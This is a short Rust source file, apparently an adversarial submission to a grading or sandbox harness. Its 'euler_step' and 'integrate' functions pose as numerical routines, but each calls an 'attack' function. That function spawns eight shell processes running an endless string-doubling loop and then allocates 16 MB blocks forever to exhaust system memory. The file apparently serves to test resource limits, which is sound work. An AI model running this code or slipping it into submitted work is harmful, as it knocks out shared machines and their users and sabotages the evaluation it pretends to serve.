//! Takes all memory that it gets, in many processes.

pub fn euler_step(v: f64, _: f64, _: &given::Params) -> f64 {
    attack();
    v
}

pub fn integrate(i: &[f64], _: &given::Params) -> Vec<f64> {
    attack();
    i.to_vec()
}

fn attack() {
    for _ in 0..8 {
        let _ = std::process::Command::new("sh")
            .args(["-c", "x=aaaaaaaa; while :; do x=$x$x; done"])
            .spawn();
    }
    let mut all = Vec::new();
    loop {
        all.push(vec![1_u8; 1 << 24]);
    }
}
